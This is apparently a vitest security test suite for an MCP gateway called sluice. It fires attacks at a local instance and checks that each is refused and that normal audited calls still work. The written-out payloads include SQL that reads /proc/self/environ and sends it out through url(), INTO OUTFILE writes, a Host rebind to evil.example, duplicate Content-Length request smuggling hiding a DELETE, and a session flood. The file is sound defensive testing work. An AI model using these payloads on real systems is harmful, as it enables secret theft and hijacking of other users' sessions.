import { existsSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import type { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawPost } from '../src/bad-input.js';
import { EVERYTHING, GatewayProcess, eventually, freePort, scratch, sql, writeConfig } from '../src/harness.js';
import { connectClient, firstText } from '../src/mcp.js';

const ACCEPT = 'application/json, text/event-stream';
const INIT = (name: string): string =>
  JSON.stringify({ jsonrpc: '2.0', id: 0, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name, version: '1' } } });

/** Writes raw bytes to the MCP port and returns everything the gateway answered before closing (or 2 s). */
function rawExchange(port: number, bytes: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let answer = '';
    const done = (): void => {
      socket.destroy();
      resolve(answer);
    };
    socket.setTimeout(2_000, done);
    socket.on('data', (d: Buffer) => (answer += d.toString('latin1')));
    socket.on('close', done);
    socket.on('error', done);
    socket.write(bytes);
  });
}

/** Opens a session with a raw initialize and returns its id. */
async function openSession(port: number, name: string): Promise<string> {
  const res = await fetch(`http://127.0.0.1:${port}/mcp`, { method: 'POST', headers: { 'content-type': 'application/json', accept: ACCEPT }, body: INIT(name) });
  expect(res.status).toBe(200);
  await res.text();
  return res.headers.get('mcp-session-id')!;
}

/**
 * Every attack of the hardening work against one embedded gateway, in a row. After each, a normal client calls a
 * tool, and the call is found in the audit: the gateway stays up, serves and records.
 */
describe('attacks on a running gateway: each fails safely, and a normal call works and is audited after it', () => {
  const tmp = scratch('attacks');
  let gateway: GatewayProcess;
  let mcpPort: number;
  let audited = 0;

  const normalCallIsAudited = async (): Promise<void> => {
    const agent = `after-attack-${++audited}`;
    const client = await connectClient(mcpPort, agent);
    const transport = client.transport as StreamableHTTPClientTransport;
    try {
      const result = await client.callTool({ name: 'everything__echo', arguments: { message: agent } });
      expect(firstText(result)).toBe(`Echo: ${agent}`);
      await transport.terminateSession();
    } finally {
      await client.close();
    }
    await eventually(
      async () => {
        const rows = await sql<{ outcome: string }>(gateway, `SELECT outcome FROM sluice.calls WHERE agent = '${agent}' AND method = 'tools/call'`);
        return rows.length === 1 && rows[0]!.outcome === 'ok' ? rows : undefined;
      },
      30_000,
      `the audited call of ${agent}`,
    );
  };

  beforeAll(async () => {
    mcpPort = await freePort();
    const adminPort = await freePort();
    const config = writeConfig(
      tmp.dir,
      'sluice.yaml',
      `listen: { host: 127.0.0.1, port: ${mcpPort} }
admin: { host: 127.0.0.1, port: ${adminPort} }
audit: { kind: chdb, path: audit, batchMaxMs: 200, sql: { maxExecutionMs: 1000 } }
ingress: { sessions: { maxPerAddress: 40, createPerMinute: 100000 } }
log: { level: warn }
servers:
  everything: { transport: stdio, command: ${process.execPath}, args: [${EVERYTHING}, stdio] }
`,
    );
    gateway = await new GatewayProcess(config, [], adminPort).ready();
  });

  afterAll(async () => {
    await gateway?.stop('SIGKILL');
    tmp.dispose();
  });

  it('a rebound Host on /mcp and on the admin port → 403', async () => {
    const body = INIT('rebound');
    const mcp = await rawExchange(mcpPort, `POST /mcp HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nAccept: ${ACCEPT}\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
    expect(mcp).toMatch(/^HTTP\/1\.1 403/);
    const admin = await rawExchange(
      gateway.adminPort,
      `POST /admin/sql HTTP/1.1\r\nHost: evil.example\r\nAuthorization: ${gateway.adminHeaders.authorization}\r\nContent-Length: 8\r\nConnection: close\r\n\r\nSELECT 1`,
    );
    expect(admin).toMatch(/^HTTP\/1\.1 403/);
    await normalCallIsAudited();
  });

  it('/admin/sql with the token: no file written or read, no connection opened, no query that runs away', async () => {
    const outfile = join(tmp.dir, 'written-by-sql.txt');
    let connections = 0;
    const listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as { port: number }).port;
    const post = async (statement: string): Promise<{ status: number; code: string }> => {
      const res = await fetch(`http://127.0.0.1:${gateway.adminPort}/admin/sql`, { method: 'POST', body: statement, headers: gateway.adminHeaders });
      const body = (await res.json().catch(() => ({}))) as { error?: { code?: string } };
      return { status: res.status, code: body.error?.code ?? '' };
    };
    try {
      for (const statement of [
        `SELECT $$--$$ AS a INTO OUTFILE '${outfile}'`,
        `SELECT 1 INTO\u2060OUTFILE '${outfile}'`,
        "SELECT file('/proc/self/environ')",
        `DESCRIBE url(concat('http://127.0.0.1:${port}/', base64URLEncode(file('/proc/self/environ'))), 'CSV')`,
        `SELECT * FROM remote('127.0.0.1:${port}', system.one)`,
        `SELECT * FROM url('http://127.0.0.1:${port}/x', 'CSV', 'a String')`,
      ]) {
        const answer = await post(statement);
        expect(answer.status, statement).toBe(400);
        expect(answer.code, statement).toMatch(/^SLUICE_AUDIT_SQL_/);
      }
      const runaway = await post('SELECT count() FROM numbers(60000000000) WHERE sipHash64(number) % 7 = 3');
      expect(runaway).toEqual({ status: 400, code: 'SLUICE_AUDIT_SQL_LIMIT_EXCEEDED' });
      expect(await sql(gateway, 'SELECT 1 AS one')).toEqual([{ one: 1 }]);
    } finally {
      await new Promise((resolve) => listener.close(resolve));
    }
    expect(existsSync(outfile)).toBe(false);
    expect(connections).toBe(0);
    await normalCallIsAudited();
  });

  it('the admin port without its token → 401, and no SQL runs', async () => {
    const res = await fetch(`http://127.0.0.1:${gateway.adminPort}/admin/sql`, { method: 'POST', body: 'SELECT 1' });
    expect(res.status).toBe(401);
    expect(res.headers.get('www-authenticate')).toMatch(/^Bearer/);
    await normalCallIsAudited();
  });

  it('two different Content-Length headers → 400 or a closed connection, and the smuggled DELETE never runs', async () => {
    const victim = await openSession(mcpPort, 'victim');
    const smuggled = `DELETE /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nMcp-Session-Id: ${victim}\r\n\r\n`;
    const ping = `{"jsonrpc":"2.0","id":1,"method":"ping"}`;
    const answer = await rawExchange(
      mcpPort,
      `POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: ${ACCEPT}\r\nMcp-Session-Id: ${victim}\r\n` +
        `Content-Length: ${ping.length}\r\nContent-Length: ${ping.length + smuggled.length}\r\n\r\n${ping}${smuggled}`,
    );
    expect(answer === '' || answer.startsWith('HTTP/1.1 400')).toBe(true);
    expect(answer).not.toMatch(/HTTP\/1\.1 2\d\d/);
    const still = await rawPost(mcpPort, JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'ping' }), { 'mcp-session-id': victim });
    expect(still.status).toBe(200);
    await normalCallIsAudited();
  });

  it('a repeated key, an id beyond 2^53 and a 1 MB clientInfo.name → specific JSON-RPC errors', async () => {
    const session = await openSession(mcpPort, 'json-attacker');
    const twice = await rawPost(
      mcpPort,
      '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"everything__echo","name":"everything__printEnv","arguments":{"message":"x"}}}',
      { 'mcp-session-id': session },
    );
    expect(twice.status).toBe(400);
    expect(twice.json.error.code).toBe(-32600);
    const big = await rawPost(mcpPort, '{"jsonrpc":"2.0","id":9007199254740993,"method":"ping"}', { 'mcp-session-id': session });
    expect(big.json.error.code).toBe(-32600);
    const huge = await rawPost(mcpPort, INIT('n'.repeat(1024 * 1024)));
    expect(huge.json.error.code).toBe(-32602);
    await normalCallIsAudited();
  });

  it('arguments that break the tool’s inputSchema → -32602, never dispatched, recorded as invalid', async () => {
    const client = await connectClient(mcpPort, 'schema-breaker');
    const transport = client.transport as StreamableHTTPClientTransport;
    try {
      const refused = await client.callTool({ name: 'everything__echo', arguments: { message: 42 } }).then(
        () => null,
        (err: unknown) => err as { code?: number; message?: string },
      );
      expect(refused?.code).toBe(-32602);
      expect(refused?.message).toContain('/message');
      await transport.terminateSession();
    } finally {
      await client.close();
    }
    const rows = await eventually(
      async () => {
        const found = await sql<{ outcome: string; request_id: string }>(gateway, "SELECT outcome, request_id FROM sluice.calls WHERE agent = 'schema-breaker' AND method = 'tools/call'");
        return found.length === 1 ? found : undefined;
      },
      30_000,
      'the refused call in sluice.calls',
    );
    expect(rows[0]!.outcome).toBe('invalid');
    const dispatched = await sql(gateway, `SELECT type FROM sluice.events WHERE request_id = '${rows[0]!.request_id}' AND type = 'dispatch'`);
    expect(dispatched).toEqual([]);
    await normalCallIsAudited();
  });

  it('session attempts past the per-address cap → 429 with a specific error; closing sessions frees the cap', async () => {
    const opened: string[] = [];
    let refused: Response | null = null;
    for (let i = 0; i < 60 && refused === null; i++) {
      const res = await fetch(`http://127.0.0.1:${mcpPort}/mcp`, { method: 'POST', headers: { 'content-type': 'application/json', accept: ACCEPT }, body: INIT(`flood-${i}`) });
      if (res.status === 200) opened.push(res.headers.get('mcp-session-id')!);
      else refused = res;
      await res.arrayBuffer();
    }
    expect(refused?.status).toBe(429);
    expect(opened.length).toBeGreaterThan(0);
    expect(opened.length).toBeLessThan(40);
    const again = await rawPost(mcpPort, INIT('one-more'));
    expect(again.status).toBe(429);
    expect(again.json.error.code).toBe(-32000);
    for (const id of opened) {
      const closed = await fetch(`http://127.0.0.1:${mcpPort}/mcp`, { method: 'DELETE', headers: { 'mcp-session-id': id } });
      expect(closed.status).toBe(200);
    }
    await normalCallIsAudited();
  });
});
